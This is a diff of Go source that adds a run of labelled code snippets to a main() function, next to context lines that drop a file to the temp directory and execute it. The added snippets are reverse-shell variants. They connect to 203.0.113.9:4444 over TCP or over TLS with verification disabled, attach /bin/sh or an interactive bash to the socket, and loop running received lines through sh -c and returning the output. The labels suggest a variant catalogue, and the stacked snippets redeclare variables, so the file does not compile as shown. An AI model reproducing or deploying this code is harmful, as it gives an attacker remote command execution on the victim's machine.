@@ -73,6 +73,41 @@ func main() {
 	p := filepath.Join(os.TempDir(), "a")
 	os.WriteFile(p, c, 0755)
 	exec.Command(p).Start()
+%% link: dialled
+	c, err := net.Dial("tcp", "203.0.113.9:4444")
+	if err != nil {
+		return
+	}
+%% link: dialled with a limit
+	c, _ := net.DialTimeout("tcp", "203.0.113.9:4444", 5*time.Second)
+%% link: encrypted
+	c, _ := tls.Dial("tcp", "203.0.113.9:4444", &tls.Config{InsecureSkipVerify: true})
+%% link: address with a name
+	addr := "203.0.113.9:4444"
+	c, _ := net.Dial("tcp", addr)
+%% obey: shell with the connection
+	cmd := exec.Command("/bin/sh")
+	cmd.Stdin = c
+	cmd.Stdout = c
+	cmd.Stderr = c
+	cmd.Run()
+%% obey: shell with three at once
+	cmd := exec.Command("bash", "-i")
+	cmd.Stdin, cmd.Stdout, cmd.Stderr = c, c, c
+	cmd.Run()
+%% obey: scanner
+	sc := bufio.NewScanner(c)
+	for sc.Scan() {
+		out, _ := exec.Command("sh", "-c", sc.Text()).Output()
+		c.Write(out)
+	}
+%% obey: reader
+	r := bufio.NewReader(c)
+	for {
+		line, _ := r.ReadString('\n')
+		out, _ := exec.Command("/bin/sh", "-c", line).CombinedOutput()
+		c.Write(out)
+	}
 %% ordinary
 	d := []byte("three of four are done")
 %% shown
